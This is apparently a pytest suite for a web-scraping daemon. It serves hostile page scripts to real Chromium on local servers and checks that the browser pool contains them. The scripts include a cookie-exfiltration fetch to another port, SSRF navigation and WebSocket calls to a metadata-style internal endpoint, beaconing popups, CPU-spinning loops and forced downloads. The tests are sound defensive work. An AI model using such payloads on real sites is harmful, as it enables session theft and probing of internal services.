"""A scraped page's script is hostile: what it tries, against real Chromium and real local servers.

Each test reproduces one way a page used to reach further than it should (its credentials to
another port, an internal service read back as records, a popup outliving its fetch, a spinning
script starving other sources, downloads on disk, Chromium as root without its sandbox, files
left by a killed worker, the browser under MemoryDenyWriteExecute, a remote Playwright server)
and asserts the harm is gone.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import psutil
import pytest

from healerd.adapters.browser import BrowserPool
from healerd.adapters.browser_host import DROP_IN, sandbox_problem
from healerd.adapters.fetch import FetchConfig, FetchError
from healerd.adapters.sandbox import unprivileged_ids
from healerd.config import BrowserSection
from healerd.core import errors, netpolicy
from healerd.core.blueprint import from_dict
from healerd.core.extract import extract
from tests.support.daemon import FAST_CONFIG, DaemonProc
from tests.support.httpfixture import LocalServer, page
from tests.support.paths import ROOT
from tests.support.sitepages import LISTING_BP, ROWS, write_blueprint

CREDS = {"Authorization": "Bearer t0k3n-abc", "X-Api-Key": "k3y-xyz"}
COOKIES = {"session": "c00kie-val"}
FETCH = FetchConfig(timeout=5.0, connect_timeout=2.0, max_bytes=400_000)


@pytest.fixture
def servers():
    made: list[LocalServer] = []

    def make() -> LocalServer:
        s = LocalServer()
        made.append(s)
        return s

    yield make
    for s in made:
        s.stop()


@pytest.fixture(scope="module")
def pool(tmp_path_factory):
    p = BrowserPool(BrowserSection(), FETCH, tmp_path_factory.mktemp("state"))
    yield p
    p.close()


@pytest.fixture(scope="module")
def open_pool(tmp_path_factory):
    """allow_private: a page may reach other loopback ports (so credentials can be watched there)."""
    p = BrowserPool(BrowserSection(allow_private=True), FETCH, tmp_path_factory.mktemp("state"))
    yield p
    p.close()


def listing(script: str = "") -> str:
    rows = "".join(f'<tr class="player"><td class="name">{n}</td><td class="score">{s}</td></tr>' for n, s in ROWS)
    return (f'<html><body><table class="stats"><tr><th>Name</th><th>Score</th></tr>{rows}</table>'
            f'<div id="done"></div><script>{script}</script></body></html>')


def cors(body: bytes = b"ok"):
    return page(body, headers={"Access-Control-Allow-Origin": "*"}, content_type="text/plain")


def paths(srv: LocalServer) -> list[str]:
    with srv.lock:
        return [p for p, _ in srv.requests]


# -- credentials leave the source's origin --------------------------------------------------
@pytest.mark.parametrize("which", ["open", "default"])
def test_credentials_and_cookies_never_reach_another_port(which, pool, open_pool, servers):
    p = open_pool if which == "open" else pool
    src, other = servers(), servers()
    other.route("/x", cors())
    src.route("/own", cors())
    script = (f'fetch("/own").then(function () {{ return fetch("{other.url("/x")}?c=" + '
              f'encodeURIComponent(document.cookie)); }}).then(function () {{ done.className = "sent"; }}, '
              f'function () {{ done.className = "sent"; }});')
    src.route("/page", page(listing(script)))
    res = p.fetch(src.url("/page"), headers=CREDS, cookies=COOKIES, wait_for="#done.sent")
    assert extract(res.text, from_dict(LISTING_BP, url=src.url("/page"))).data[0] == {"name": "Ada", "score": 31}
    # The source's own origin gets its credentials, the cookie as a header...
    own = src.seen("/own")[0]
    assert own["authorization"] == CREDS["Authorization"] and own["x-api-key"] == CREDS["X-Api-Key"]
    assert "session=c00kie-val" in own["cookie"]
    # ...but the page's script never sees the cookie, and another port gets nothing of them.
    got = other.seen("/x")
    if which == "default":
        assert got == []   # another loopback port is an internal address: refused outright
        return
    assert len(got) == 1
    assert "authorization" not in got[0] and "x-api-key" not in got[0] and "c00kie" not in got[0].get("cookie", "")
    assert all("c00kie" not in path for path in paths(other))


# -- SSRF with read-back ------------------------------------------------------------------
def test_a_page_cannot_navigate_to_an_internal_service(pool, servers):
    src, internal = servers(), servers()
    internal.route("/latest/meta-data/", page(listing()))   # would pass for the source's records
    meta = f"http://localhost:{internal.port}/latest/meta-data/"
    src.route("/page", page(f'<html><body><p>shell</p><script>location.href = "{meta}";</script></body></html>'))
    with pytest.raises(FetchError) as err:
        pool.fetch(src.url("/page"), headers=CREDS, wait_for="tr.player")
    assert err.value.error_type == errors.HTTP_ERROR and "navigated away from the source's origin" in err.value.message
    # A redirect of the source's own URL to it is refused before anything is sent there.
    src.route("/moved", page(b"", status=302, headers={"Location": meta}))
    with pytest.raises(FetchError) as err:
        pool.fetch(src.url("/moved"), headers=CREDS, wait_for="tr.player")
    assert "which a page may not reach" in err.value.message and "internal address" in err.value.message
    # ...and so is a subresource or a WebSocket to it.
    src.route("/sub", page(f'<html><body><div id="done"></div><script>fetch("{meta}").catch(function () {{}});'
                           f'try {{ new WebSocket("ws://127.0.0.1:{internal.port}/ws"); }} catch (e) {{}}'
                           f'setTimeout(function () {{ done.className = "x"; }}, 300);</script></body></html>'))
    pool.fetch(src.url("/sub"), wait_for="#done.x")
    assert paths(internal) == []
    # A subresource of the source's own origin redirected there: Chromium follows that hop
    # itself, so the request is sent, but the fetch fails and nothing read becomes records.
    src.route("/jump", page(b"", status=302, headers={"Location": meta}))
    src.route("/via", page('<html><body><div id="done"></div><script>fetch("/jump").catch(function () {});'
                           'setTimeout(function () { done.className = "x"; }, 500);</script></body></html>'))
    with pytest.raises(FetchError) as err:
        pool.fetch(src.url("/via"), wait_for="#done.x")
    assert "internal address" in err.value.message


def test_a_redirect_to_another_public_origin_drops_credentials_like_http(open_pool, servers):
    src, other = servers(), servers()
    other.route("/list", page(listing()))
    src.route("/old", page(b"", status=301, headers={"Location": other.url("/list")}))
    res = open_pool.fetch(src.url("/old"), headers=CREDS, cookies=COOKIES, wait_for="tr.player")
    assert res.url == other.url("/list") and res.permanent_redirect == other.url("/list")
    hop = other.seen("/list")[0]
    assert "authorization" not in hop and "c00kie" not in hop.get("cookie", "")
    assert src.seen("/old")[0]["authorization"] == CREDS["Authorization"]
    src.route("/a", page(b"", status=302, headers={"Location": "/b"}))
    src.route("/b", page(b"", status=302, headers={"Location": "/a"}))
    with pytest.raises(FetchError) as err:
        open_pool.fetch(src.url("/a"))
    assert "redirect loop" in err.value.message


# -- popups outlive the fetch --------------------------------------------------------------
def test_a_beaconing_popup_is_silent_after_the_fetch(pool, servers):
    src = servers()
    src.route("/ping", cors())
    src.route("/beacon", page('<html><body><script>setInterval(function () { fetch("/ping"); }, 100);'
                              '</script></body></html>'))
    src.route("/page", page(listing('window.open("/beacon"); var w = window.open("/beacon", "_blank");'
                                    'setInterval(function () { fetch("/ping"); }, 100);'
                                    'setTimeout(function () { done.className = "x"; }, 400);')))
    pool.fetch(src.url("/page"), wait_for="#done.x")
    ended = len(src.seen("/ping"))
    assert ended >= 1            # the page's own beacon ran while it was being fetched
    assert src.seen("/beacon") == []   # the popups were closed before they loaded anything
    time.sleep(3.0)
    assert len(src.seen("/ping")) == ended   # nothing of the fetch runs after it


# -- one page starves the others -----------------------------------------------------------
@pytest.fixture
def slow_pool(tmp_path):
    """A longer deadline: the page beside a spinning one shares a busy machine's CPU with it."""
    p = BrowserPool(BrowserSection(), FetchConfig(timeout=10.0, connect_timeout=2.0, max_bytes=400_000),
                    tmp_path / "state")
    yield p
    p.close()


def _busy(pid: int) -> list[int]:
    out = []
    for proc in psutil.Process(pid).children(recursive=True):
        try:
            if proc.cpu_percent(0.5) > 50:
                out.append(proc.pid)
        except psutil.Error:
            pass
    return out


def test_a_spinning_page_is_stopped_and_only_its_source_fails(slow_pool, servers):
    pool = slow_pool
    spin, normal = servers(), servers()
    spin.route("/spin", page("<html><body><p>x</p><script>while (true) {}</script></body></html>"))
    normal.route("/slowjs", page(listing('setTimeout(function () { done.className = "x"; }, 1500);')))
    pool.fetch(normal.url("/slowjs"), wait_for="#done.x")   # the browser is up
    worker = pool.worker_pid()
    out: dict = {}

    def go(name, url, wait_for):
        try:
            out[name] = pool.fetch(url, wait_for=wait_for)
        except FetchError as exc:
            out[name] = exc
    spinner = threading.Thread(target=go, args=("spin", spin.url("/spin"), "tr.player"))
    spinner.start()
    time.sleep(0.5)   # the spinning page holds its renderer
    normal_url = normal.url("/slowjs").replace("127.0.0.1", "localhost")
    go("normal", normal_url, "#done.x")
    spinner.join(30)
    assert not isinstance(out["normal"], FetchError), out["normal"]
    assert "Grace" in out["normal"].text
    assert isinstance(out["spin"], FetchError) and out["spin"].error_type == errors.TIMEOUT
    assert "kept the browser busy" in out["spin"].message
    assert pool.worker_pid() == worker   # not a restarted browser: the one page was closed
    # ...and its renderer is gone: no process of the browser keeps spinning.
    time.sleep(1.0)
    assert _busy(worker) == []


# -- downloads reach the disk --------------------------------------------------------------
def test_downloads_are_refused_and_leave_no_file(pool, servers):
    src = servers()
    blob = b"D0WNL0AD" * 131072   # 1 MB
    src.route("/file.bin", page(blob, headers={"Content-Disposition": "attachment; filename=f.bin"},
                                content_type="application/octet-stream"))
    src.route("/page", page(listing(
        'var b = new Blob([new Uint8Array(4 * 1048576).fill(65)]); var a = document.createElement("a");'
        'a.href = URL.createObjectURL(b); a.download = "blob.bin"; document.body.appendChild(a); a.click();'
        'var c = document.createElement("a"); c.href = "/file.bin"; c.download = "f.bin";'
        'document.body.appendChild(c); c.click(); setTimeout(function () { done.className = "x"; }, 2500);')))
    started = time.time()
    seen: set[str] = set()
    fetching = threading.Event()
    fetching.set()

    def big_files() -> set[str]:
        found = set()
        for top in (pool.dir, "/tmp"):
            for root, _dirs, files in os.walk(top):
                if top == "/tmp" and root != top and "playwright" not in root:
                    continue
                for f in files:
                    p = os.path.join(root, f)
                    try:
                        st = os.lstat(p)
                    except OSError:
                        continue
                    # Chromium's metrics files (BrowserMetrics-spare.pma, written as zeros, late on a busy
                    # machine) are its own, not a download; the downloads here are f.bin and blob.bin.
                    if st.st_size >= 1_000_000 and st.st_mtime >= started - 1 and not f.endswith(".pma"):
                        found.add(p)
        return found

    def watch():   # while the page is open, and after
        while fetching.is_set():
            seen.update(big_files())
            time.sleep(0.1)
    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        pool.fetch(src.url("/page"), wait_for="#done.x")
    finally:
        fetching.clear()
        watcher.join()
    time.sleep(1.0)
    seen.update(big_files())
    assert seen == set()


# -- Chromium runs as root with --no-sandbox --------------------------------------------------
@pytest.mark.skipif(os.geteuid() != 0, reason="the drop to nobody happens only when the daemon runs as root")
def test_the_worker_and_chromium_run_unprivileged_with_the_sandbox(pool, servers):
    src = servers()
    src.route("/p", page(listing()))
    pool.fetch(src.url("/p"), wait_for="tr.player")
    nobody = unprivileged_ids()[0]
    worker = psutil.Process(pool.worker_pid())
    assert worker.uids().real == worker.uids().effective == nobody
    chromium = []
    for proc in worker.children(recursive=True):
        try:
            if "chrom" in proc.name().lower():
                chromium.append((proc.uids(), proc.cmdline()))
        except psutil.Error:   # a renderer of a closed page, gone meanwhile
            pass
    assert chromium and all(uids.real != 0 and uids.effective != 0 for uids, _ in chromium)
    if sandbox_problem() is None:   # the kernel allows user namespaces: the sandbox is on
        assert all("--no-sandbox" not in cmd for _, cmd in chromium)
    # its profile is in the worker's own /tmp (/var/tmp when healerd is installed under /tmp): the
    # state dir's browser directory
    assert any(c.startswith(("--user-data-dir=/tmp/", "--user-data-dir=/var/tmp/")) for _, cmd in chromium for c in cmd)


def test_a_killed_worker_leaves_no_profile_behind(tmp_path, servers):
    src = servers()
    src.route("/p", page(listing()))
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    p = BrowserPool(BrowserSection(), FETCH, state)
    try:
        p.fetch(src.url("/p"), wait_for="tr.player")
        browser_dir = state / "browser"
        assert oct(browser_dir.stat().st_mode & 0o777) == "0o700"
        [mine] = os.listdir(browser_dir)
        assert mine == f"w{p.worker_pid()}" and oct((browser_dir / mine).stat().st_mode & 0o777) == "0o700"
        first = {f"{mine}/{name}" for name in os.listdir(browser_dir / mine)}
        assert any("/playwright" in name for name in first)   # the profile lives here, not in /tmp
        for proc in psutil.Process(p.worker_pid()).children(recursive=True) + [psutil.Process(p.worker_pid())]:
            try:
                proc.kill()
            except psutil.Error:
                pass
        time.sleep(0.5)
        try:
            p.fetch(src.url("/p"), wait_for="tr.player")
        except FetchError:   # the first fetch may still have met the dying worker
            p.fetch(src.url("/p"), wait_for="tr.player")
        now = {f"{d}/{name}" for d in os.listdir(browser_dir) for name in os.listdir(browser_dir / d)}
        assert now and not (first & now) and mine not in os.listdir(browser_dir)
    finally:
        p.close()


# -- it cannot run under the shipped unit --------------------------------------------------
MDWE_EXEC = "import ctypes, os, sys; ctypes.CDLL(None).prctl(65, 1, 0, 0, 0); os.execv(sys.argv[1], sys.argv[1:])"


class MdweDaemon(DaemonProc):
    """The daemon as the shipped unit runs it: MemoryDenyWriteExecute (the kernel's PR_SET_MDWE)."""

    def start(self, wait: float = 20.0):
        from tests.support import daemon as support_daemon

        real = support_daemon.bin_cmd

        support_daemon.bin_cmd = lambda name: ([sys.executable, "-c", MDWE_EXEC] + real(name) if name == "healerd"
                                               else real(name))
        try:
            return super().start(wait)
        finally:
            support_daemon.bin_cmd = real


def test_add_is_refused_under_memory_deny_write_execute_naming_the_drop_in(site, tmp_path):
    site.page("/stats", listing())
    bp = write_blueprint(tmp_path / "js.json", site.url("/stats"), dict(LISTING_BP, fetch="browser"))
    d = MdweDaemon(tmp_path / "mdwe").start()
    try:
        r = d.ctl("add", "js", "--blueprint", bp)
        assert r.returncode != 0
        line = r.stderr.strip()
        assert "\n" not in line and DROP_IN in line and "MemoryDenyWriteExecute" in line
        assert d.ctl("add", "plain", "--blueprint", write_blueprint(tmp_path / "p.json", site.url("/stats"),
                                                                   LISTING_BP)).returncode == 0
    finally:
        d.stop()
    ok = DaemonProc(tmp_path / "plain").start()   # the same daemon without it (the drop-in's setting)
    try:
        r = ok.ctl("add", "js", "--blueprint", bp)
        assert r.returncode == 0, r.stderr
        assert ok.ctl_json("run", "js")["ok"] is True
    finally:
        ok.stop()


def test_the_drop_in_lifts_what_the_browser_needs():
    root = ROOT
    text = (root / DROP_IN).read_text()
    settings = dict(re.findall(r"^(\w+)=(.*)$", text, re.M))
    assert settings["MemoryDenyWriteExecute"] == "no"
    unit = dict(re.findall(r"^(\w+)=(.*)$", (root / "contrib/systemd/healerd.service").read_text(), re.M))
    as_mb = {"K": 1 / 1024, "M": 1, "G": 1024}
    assert float(settings["MemoryMax"][:-1]) * as_mb[settings["MemoryMax"][-1]] > \
        float(unit["MemoryMax"][:-1]) * as_mb[unit["MemoryMax"][-1]] + BrowserSection().max_memory_mb
    install = (root / "contrib/install.sh").read_text()
    assert "--browser" in install and "healerd[browser]" in install.replace("'", "").replace('"', "") \
        or ".[browser]" in install
    assert "healerd.service.d" in install


# -- beyond one box: a Playwright server ---------------------------------------------------
@pytest.fixture
def run_server():
    """A real `playwright run-server` on loopback (as nobody when we are root), port picked by the OS."""
    def demote():
        if os.geteuid() == 0:
            uid, gid = unprivileged_ids()
            os.setgroups([])
            os.setresgid(gid, gid, gid)
            os.setresuid(uid, uid, uid)
    home = Path("/tmp") / f"healerd-test-pw-{os.getpid()}"
    home.mkdir(mode=0o700, exist_ok=True)
    if os.geteuid() == 0:
        os.chown(home, *unprivileged_ids())
    env = {**os.environ, "HOME": str(home), "TMPDIR": str(home)}
    # `python -m playwright run-server` is this (run directly: nobody may not read this interpreter).
    from playwright._impl._driver import compute_driver_executable

    node, cli = compute_driver_executable()
    proc = None
    try:
        proc = subprocess.Popen([node, cli, "run-server", "--port", "0", "--host", "127.0.0.1", "--unsafe"],
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env,
                                preexec_fn=demote, start_new_session=True)
        line = proc.stdout.readline()
        m = re.search(r"(ws://\S+)", line)
        assert m, line
        yield m.group(1)
    finally:
        if proc is not None:
            for p in psutil.Process(proc.pid).children(recursive=True) + [psutil.Process(proc.pid)]:
                try:
                    p.kill()
                except psutil.Error:
                    pass
            proc.wait(10)
        subprocess.run(["rm", "-rf", str(home)], check=False)


def test_a_remote_playwright_server_renders_under_the_same_rules(run_server, servers, tmp_path):
    from healerd.adapters.browser import find_executable

    src, other = servers(), servers()
    other.route("/x", cors())
    src.route("/rows.json", page(json.dumps(ROWS), content_type="application/json"))
    src.route("/stats", page('<html><body><div id="app"></div><script>fetch("/rows.json").then(function (r) {'
                             ' return r.json(); }).then(function (rows) { var h = "<table class=stats>"; '
                             'rows.forEach(function (r) { h += "<tr class=player><td class=name>" + r[0] + '
                             '"</td><td class=score>" + r[1] + "</td></tr>"; }); '
                             'document.getElementById("app").innerHTML = h + "</table>"; });'
                             f'fetch("{other.url("/x")}?c=" + document.cookie).catch(function () {{}});'
                             'window.open("/stats");</script></body></html>'))
    section = BrowserSection(endpoint=run_server, executable=find_executable("") or "")
    p = BrowserPool(section, FETCH, tmp_path / "state")
    try:
        res = p.fetch(src.url("/stats"), headers=CREDS, cookies=COOKIES, wait_for="tr.player")
        bp = from_dict(dict(LISTING_BP, fetch="browser"), url=src.url("/stats"))
        assert extract(res.text, bp).data == [{"name": n, "score": s} for n, s in ROWS]
        assert src.seen("/rows.json")[0]["authorization"] == CREDS["Authorization"]
        assert len(src.seen("/stats")) == 1   # the popup was closed before it loaded anything
        assert other.seen("/x") == []         # the network policy holds on the client side
        worker = psutil.Process(p.worker_pid())
        assert not [c for c in worker.children(recursive=True) if "chrom" in c.name().lower()]   # not local
        assert not (tmp_path / "state" / "browser").exists()
    finally:
        p.close()


# -- the pure rule ----------------------------------------------------------------------------
def test_the_network_policy():
    src = "http://shop.test:8080/list"
    assert netpolicy.refusal("http://shop.test:8080/api", src, ["127.0.0.1"], False) is None   # its own origin
    assert netpolicy.refusal("ws://shop.test:8080/live", src, ["127.0.0.1"], False) is None
    for addr in ("127.0.0.1", "10.1.2.3", "192.168.0.9", "172.16.0.1", "169.254.169.254", "::1", "fd00::1",
                 "fe80::1", "0.0.0.0", "::ffff:127.0.0.1", "224.0.0.1"):
        assert netpolicy.refusal("http://evil.test/x", src, ["93.184.216.34", addr], False), addr
        assert netpolicy.refusal("http://evil.test/x", src, [addr], True) is None
    # Whatever is not global: carrier-grade NAT, site-local IPv6, private IPv4 behind IPv4-mapped,
    # NAT64 or 6to4 addresses, the local-use NAT64 prefix, IPv4-compatible and Teredo addresses,
    # documentation and benchmarking ranges, and what is not an address at all.
    for addr in ("100.64.0.1", "100.127.255.254", "fec0::1", "feff::1", "::ffff:10.0.0.1", "::ffff:100.64.0.1",
                 "64:ff9b::a00:1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b::6440:1", "2002:a00:1::1",
                 "2002:7f00:1::", "64:ff9b:1::5db8:d822", "::10.0.0.1", "::5db8:d822", "2001:0:4136:e378::1",
                 "2001:db8::1", "198.18.0.1", "192.0.2.1", "240.0.0.1", "ff0e::1", "255.255.255.255",
                 "not-an-address", "", "1.2.3.4.5", "::g", "10.0.0.1/8"):
        assert netpolicy.internal(addr), addr
        assert netpolicy.refusal("http://evil.test/x", src, ["93.184.216.34", addr], False), addr
    for addr in ("93.184.216.34", "2606:4700::1", "::ffff:93.184.216.34", "64:ff9b::5db8:d822", "2002:5db8:d822::1",
                 "8.8.8.8", "2a00:1450:4001::200e"):
        assert not netpolicy.internal(addr), addr
        assert netpolicy.refusal("http://cdn.test/x", src, [addr], False) is None, addr
    assert netpolicy.refusal("http://shop.test:8081/x", src, ["127.0.0.1"], False)   # another port
    assert netpolicy.refusal("https://cdn.test/x.js", src, ["93.184.216.34"], False) is None
    assert netpolicy.refusal("ftp://cdn.test/x", src, ["93.184.216.34"], False)
    assert not netpolicy.same_origin(src, "https://shop.test:8080/list")
    assert netpolicy.same_origin("https://shop.test/", "https://SHOP.test:443/x")


NO_USERNS = r"""
import errno, logging, sys
import psutil, pyseccomp as S
from healerd.adapters.browser import BrowserPool
from healerd.adapters.fetch import FetchConfig
from healerd.config import BrowserSection

f = S.SyscallFilter(defaction=S.ALLOW)   # what RestrictNamespaces=yes does: no new user namespace
for call in ("unshare", "clone"):
    f.add_rule(S.ERRNO(errno.EPERM), call, S.Arg(0, S.MASKED_EQ, 0x10000000, 0x10000000))
f.load()
logging.basicConfig(level=logging.INFO, stream=sys.stdout, format="%(levelname)s %(message)s")
pool = BrowserPool(BrowserSection(), FetchConfig(timeout=10.0), sys.argv[2])
try:
    res = pool.fetch(sys.argv[1], wait_for="tr.player")
    cmds = []
    for p in psutil.Process(pool.worker_pid()).children(recursive=True):
        try:
            if "chrom" in p.name().lower():
                cmds.append(p.cmdline())
        except psutil.Error:   # a closed page's renderer, going away
            pass
    print("RENDERED", "Grace" in res.text, "NO-SANDBOX", any("--no-sandbox" in c for c in cmds))
finally:
    pool.close()
"""


def test_without_user_namespaces_chromium_runs_without_its_sandbox_and_one_warning_says_why(servers, tmp_path):
    src = servers()
    src.route("/p", page(listing()))
    r = subprocess.run([sys.executable, "-c", NO_USERNS, src.url("/p"), str(tmp_path / "state")], cwd=tmp_path,
                       capture_output=True, text=True, timeout=120)
    assert "RENDERED True NO-SANDBOX True" in r.stdout, r.stdout + r.stderr
    warnings = [line for line in r.stdout.splitlines() if line.startswith("WARNING")]
    assert len(warnings) == 1 and "--no-sandbox" in warnings[0] and "user namespaces are not available" in warnings[0]


@pytest.mark.skipif(__import__("shutil").which("systemd-analyze") is None, reason="systemd-analyze is not installed")
def test_systemd_reads_the_drop_in_over_the_unit(tmp_path):
    root = ROOT
    unit = (root / "contrib/systemd/healerd.service").read_text()
    (tmp_path / "healerd.service").write_text(unit.replace("ExecStart=/opt/healerd/bin/healerd",
                                                          f"ExecStart={sys.executable} -m healerd"))
    (tmp_path / "healerd.service.d").mkdir()
    (tmp_path / "healerd.service.d" / "browser.conf").write_text((root / DROP_IN).read_text())
    env = {**os.environ, "SYSTEMD_UNIT_PATH": f"{tmp_path}:"}
    r = subprocess.run(["systemd-analyze", "verify", "healerd.service"], cwd=tmp_path, env=env,
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and "browser.conf" not in r.stderr, r.stderr
    r = subprocess.run(["systemd-analyze", "security", "--offline=yes", "healerd.service"], cwd=tmp_path, env=env,
                       capture_output=True, text=True, timeout=60)
    if r.returncode != 0 and "unrecognized" in r.stderr.lower():
        pytest.skip("this systemd-analyze has no --offline")
    lines = {line.split()[1]: line.split()[0] for line in r.stdout.splitlines() if line.startswith(("✓", "✗"))}
    assert lines.get("MemoryDenyWriteExecute=") == "✗"   # the drop-in lifted it
    assert lines.get("RestrictNamespaces=~mnt") == "✓"   # ...and nothing the browser does not need


def test_a_new_worker_keeps_a_retiring_workers_files_and_removes_dead_ones(tmp_path):
    from healerd.adapters.browser_host import own_dir

    base = tmp_path / "browser"
    alive = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "healerd.adapters.browser_worker"])
    dead = subprocess.Popen([sys.executable, "-c", "pass", "healerd.adapters.browser_worker"])
    dead.wait()
    try:
        for d in (f"w{alive.pid}", f"w{dead.pid}", "playwright_chromiumdev_profile-x"):
            (base / d).mkdir(parents=True)
            (base / d / "Cookies").write_text("x")
        (base / "stray").write_text("x")
        mine, fd = own_dir(str(base))
        os.close(fd)
        assert sorted(os.listdir(base)) == sorted([f"w{alive.pid}", f"w{os.getpid()}"])
        assert mine == str(base / f"w{os.getpid()}") and os.listdir(mine) == []
        assert (base / f"w{alive.pid}" / "Cookies").exists()   # still rendering: left alone
    finally:
        alive.kill()
        alive.wait()


def test_the_daemon_reports_only_the_spinning_source(site, daemon_factory, tmp_path, servers):
    """Two browser sources on two hosts run at once; one page spins forever. The other is
    scraped, the spinning one fails as TIMEOUT saying why, and the browser was not restarted."""
    other = servers()
    other.route("/stats", page(listing('setTimeout(function () { done.className = "x"; }, 300);')))
    site.page("/spin", "<html><body><p>x</p><script>while (true) {}</script></body></html>")
    d = daemon_factory(FAST_CONFIG.replace('timeout = "3s"', 'timeout = "10s"')).start()
    spin_bp = write_blueprint(tmp_path / "spin.json", site.url("/spin"), dict(LISTING_BP, fetch="browser",
                                                                             wait_for="tr.player"))
    normal_url = other.url("/stats").replace("127.0.0.1", "localhost")
    normal_bp = write_blueprint(tmp_path / "normal.json", normal_url, dict(LISTING_BP, fetch="browser",
                                                                          wait_for="#done.x"))
    # Registered only: the spinning page's first scrape would time out; both are scraped by `run` below.
    assert d.ctl("add", "spin", "--blueprint", spin_bp, "--no-wait").returncode == 0
    assert d.ctl("add", "normal", "--blueprint", normal_bp, "--no-wait").returncode == 0
    assert d.ctl_json("run", "normal")["ok"] is True   # the browser is up
    out: dict = {}
    spinner = threading.Thread(target=lambda: out.update(spin=d.ctl_json("run", "spin")))
    spinner.start()
    time.sleep(1.0)
    out["normal"] = d.ctl_json("run", "normal")
    spinner.join(120)
    assert out["normal"]["ok"] is True, out["normal"]
    assert out["spin"]["ok"] is False and out["spin"]["error_type"] == "TIMEOUT", out["spin"]
    assert "kept the browser busy" in out["spin"]["error"]
    assert "did not answer" not in d.log() and "restarted" not in d.log()
    assert d.ctl_json("status", "normal")["state"] == "ACTIVE"


def test_a_pool_without_a_state_dir_removes_its_temp_dir_when_closed(servers):
    src = servers()
    src.route("/p", page(listing()))
    p = BrowserPool(BrowserSection(), FETCH)
    try:
        p.fetch(src.url("/p"), wait_for="tr.player")
        assert os.listdir(p.dir)
    finally:
        p.close()
    assert not os.path.exists(p.dir)
